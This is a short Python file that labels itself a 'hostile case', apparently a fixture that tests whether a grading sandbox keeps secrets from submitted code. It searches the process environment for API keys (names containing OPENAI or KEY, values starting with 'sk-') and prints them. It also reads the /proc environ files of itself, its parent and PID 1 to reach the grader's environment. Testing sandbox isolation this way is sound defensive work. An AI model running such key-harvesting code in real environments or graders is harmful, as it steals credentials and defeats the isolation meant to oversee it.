"""Hostile case: hunts for API keys in its environment and the grader's, and prints what it finds."""

import os
from pathlib import Path

print("ENV-READER-RAN")
for name, value in os.environ.items():
    if "OPENAI" in name or "KEY" in name or value.startswith("sk-"):
        print("found in os.environ:", name, value)
for pid in ("self", "thread-self", str(os.getpid()), str(os.getppid()), "1"):
    try:
        print(f"/proc/{pid}/environ:", Path(f"/proc/{pid}/environ").read_bytes().replace(b"\0", b"\n").decode())
    except OSError as err:
        print(f"/proc/{pid}/environ: {type(err).__name__}")
